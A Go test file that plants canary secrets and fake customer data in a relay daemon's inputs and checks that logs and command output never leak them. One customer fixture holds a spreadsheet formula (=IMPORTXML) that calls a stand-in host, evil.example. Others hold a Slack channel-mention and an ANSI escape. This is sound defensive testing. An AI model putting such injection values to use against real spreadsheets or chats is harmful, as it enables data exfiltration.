package main

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"talkrelay/sandbox"
)

// Secrets of a config, each nowhere else.
const (
	plantedAlertToken = "xoxb-555-555-alertcanary"
	plantedHook       = "/services/T0/B0/hookcanary"
	plantedBeat       = "/ping/beatcanary"
	plantedFail       = "/ping/failcanary"
	plantedPassword   = "mail-canary-password"
	plantedProxy      = "proxy-canary-password"
)

// plantedCustomers are people whose data is nowhere else, with numbers and addresses of many forms.
var plantedCustomers = []struct {
	user    sandbox.User
	text    string
	opening sandbox.Opening
}{
	{sandbox.User{Name: "카나리아김", MemberID: "member-canary-1", Member: true, Contact: sandbox.Contact{MobileNumber: "+821055512345", Email: "canary.kim@example.org"}},
		"제 번호는 010-7771-2345, 주민번호 900101-1234567, 카드는 4111 1111 1111 1111입니다", sandbox.Opening{Title: "제목카나리아", Tags: []string{"태그카나리아"}}},
	{sandbox.User{Name: "金糸雀佐藤", Contact: sandbox.Contact{MobileNumber: "+819012349876", LandlineNumber: "+81312349877"}, Tags: []string{"客札金糸雀"}},
		"電話は０９０ー８８８１ー９８７６です。住所は金糸雀町一丁目", sandbox.Opening{Page: "https://shop.example/?mail=page.canary@example.org"}},
	{sandbox.User{Name: "Canary McBird", Contact: sandbox.Contact{Email: "canary+bird@mail.example.co.kr"}, Profile: map[string]any{"address": "profile-canary-street"}},
		"call +82 (0)10 6661 2345\x1b[31m or canary.other@example.net, password canary!pass", sandbox.Opening{}},
	{sandbox.User{Name: "<!channel> =카나리아()", Contact: sandbox.Contact{MobileNumber: "+821044412345"}}, "=IMPORTXML(\"https://evil.example/canary\")", sandbox.Opening{State: sandbox.StateQueued}},
}

// plantedData are all pieces of them that would tell who they are, and each number in all its spellings.
var plantedData = []string{
	"카나리아김", "member-canary-1", "canary.kim", "제목카나리아", "태그카나리아", "900101-1234567", "9001011234567", "4111 1111 1111 1111", "1111 1111 1111",
	"金糸雀", "客札金糸雀", "page.canary", "McBird", "canary+bird", "profile-canary-street", "canary.other", "canary!pass", "=카나리아", "evil.example/canary",
	"1055512345", "010-5551-2345", "10-5551-2345", "5551-2345", "010-7771-2345", "7771-2345", "9012349876", "090-1234-9876", "1234-9876", "312349877", "03-1234-9877",
	"８８８１", "6661 2345", "1044412345", "010-4441-2345", "4441-2345", "1099912345", "010-9991-2345", "changed.canary",
}

// secretsOf are all secrets of the rig.
func (r *rig) secretsOf() []string {
	r.t.Helper()
	var key struct {
		PrivateKey string `json:"private_key"`
	}
	if err := json.Unmarshal(r.world.Google.ServiceAccountJSON(), &key); err != nil {
		r.t.Fatal(err)
	}
	return append(strings.Split(strings.TrimSpace(key.PrivateKey), "\n")[:2], r.channel.AccessKey, r.channel.AccessSecret, r.world.Slack.Token,
		plantedAlertToken, "hookcanary", "beatcanary", "failcanary", plantedPassword, plantedProxy)
}

// leaks are the pieces of what was planted that stand in text.
func (r *rig) leaks(text string) (found []string) {
	for _, p := range append(r.secretsOf(), plantedData...) {
		if strings.Contains(text, p) {
			found = append(found, p)
		}
	}
	return found
}

// plant makes things happen to the planted customers.
func (r *rig) plant() (chats []*sandbox.Chat) {
	for _, p := range plantedCustomers {
		u := r.channel.AddUser(p.user)
		chats = append(chats, r.channel.OpenChat(u, p.text, p.opening))
		u.ChangeContact(sandbox.Contact{MobileNumber: "+821099912345", Email: "changed.canary@example.org"})
	}
	return chats
}

// TestNothingLeaks plants secrets and customers in every input: config, secret files, environment, customers' fields and words,
// and what services say in errors. Then everything goes wrong in turn, and whatever the daemon and the commands print is
// searched. Only --reveal shows customers, and nothing shows secrets.
func TestNothingLeaks(t *testing.T) {
	t.Parallel()
	r, in := newRig(t, append(hurried, "[state]", "[network]\nproxy = \"http://user:"+plantedProxy+"@127.0.0.1:9\"\n\n[state]")...), newInbox(t)
	r.withAlerts(fmt.Sprintf("[alert.slack]\ntoken = %q\nchannel = \"C0ALERTS000\"\napi_url = %q\n[alert.webhook]\nurl_file = \"hook\"\n"+
		"[alert.email]\nsmtp = \"127.0.0.1:9\"\nusername = \"relay@example.com\"\npassword = %q\nfrom = \"relay@example.com\"\nto = [\"ops@example.com\"]\n"+
		"[alert.heartbeat]\nurl = %q\nfail_url = %q\nevery = \"1s\"\n", plantedAlertToken, r.world.Slack.APIURL(), plantedPassword, in.URL+plantedBeat, in.URL+plantedFail))
	writeFile(t, r.dir, "hook", in.URL+plantedHook+"\n", 0o600)

	var printed strings.Builder
	for _, format := range []string{"logfmt", "json"} {
		p := r.start("run", "--config", r.config, "--verbose", "--log-format", format)
		p.awaitLog("started")
		r.awaitPoll(p)
		chats := r.plant()
		r.world.SetFault(r.indiscreet())
		r.awaitPoll(p)
		r.awaitOutput(`cs-alerts.*(PAUSED|yes|\d)`, "status")
		in.mu.Lock()
		in.down = true
		in.mu.Unlock()
		printed.WriteString(r.everyCommand(chats[0].ID()))
		r.world.SetFault(nil)
		r.channel.SetRevoked(true)
		p.awaitLog("401")
		printed.WriteString(r.everyCommand(chats[1].ID()))
		r.channel.SetRevoked(false)
		if _, show, _ := here(t, "show", "--reveal", chats[0].ID(), "--config", r.config); !strings.Contains(show, "카나리아김") || len(r.leaks(show)) == 0 {
			t.Errorf("--reveal shows nothing, so the search finds nothing:\n%s", show)
		}
		p.stop()
		printed.WriteString(p.log())
	}
	printed.WriteString(r.everyCommand("x")) // nobody answers
	r.edit("token = ", "tokn = ")
	printed.WriteString(r.everyCommand("x")) // and the config is bad
	if found := r.leaks(printed.String()); len(found) > 0 {
		t.Errorf("leaked: %q\n%s", found, r.around(printed.String(), found))
	}
	if n := len(r.secretsOf()) + len(plantedData); n < 40 || !strings.Contains(printed.String(), "delivered") {
		t.Errorf("%d canaries in %d bytes", n, printed.Len())
	}
	r.assertPrivate()
}

// indiscreet makes services quote in their errors what they were asked, as real ones do.
func (r *rig) indiscreet() sandbox.FaultFunc {
	secrets := strings.Join(append(r.secretsOf(), plantedData...), " ")
	quote, _ := json.Marshal(secrets)
	return func(service string, q sandbox.Request) *sandbox.Fault {
		switch {
		case strings.HasSuffix(q.Path, "chat.postMessage"):
			return &sandbox.Fault{Skip: true, Status: http.StatusOK, Body: `{"ok":false,"error":` + string(quote) + `}`}
		case strings.HasSuffix(q.Path, ":batchUpdate"):
			return &sandbox.Fault{Skip: true, Status: http.StatusBadRequest, Body: `{"error":{"code":400,"status":"INVALID_ARGUMENT","message":` + string(quote) + `}}`}
		case service == "channeltalk" && strings.Contains(q.Path, "/users/"):
			return &sandbox.Fault{Skip: true, Status: http.StatusInternalServerError, Body: secrets, Header: http.Header{"X-Error": {"canary.kim@example.org"}}}
		}
		return nil
	}
}

// everyCommand returns what all commands print.
func (r *rig) everyCommand(chat string) string {
	var all strings.Builder
	for _, args := range r.commandLines(chat) {
		_, out, errs := here(r.t.(*testing.T), args...)
		all.WriteString(out + errs)
	}
	return all.String()
}

// around shows where something was found.
func (r *rig) around(text string, found []string) string {
	var b strings.Builder
	for _, f := range found {
		b.WriteString(regexp.MustCompile(`.{0,200}` + regexp.QuoteMeta(f) + `.{0,80}`).FindString(text))
		b.WriteByte('\n')
	}
	return b.String()
}

// assertPrivate fails if any file that the daemon or a command has made may be read by others.
func (r *rig) assertPrivate() {
	r.t.Helper()
	n := 0
	err := filepath.WalkDir(r.dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasSuffix(path, ".1") { // man pages are for all
			return err
		}
		info, err := os.Lstat(path)
		if err == nil && info.Mode().Perm()&0o077 != 0 {
			r.t.Errorf("%s has mode %v", filepath.Base(path), info.Mode())
		}
		if strings.Contains(path, ".db") {
			n++
		}
		return err
	})
	if err != nil || n < 3 {
		r.t.Errorf("%d files of the state: %v", n, err)
	}
}
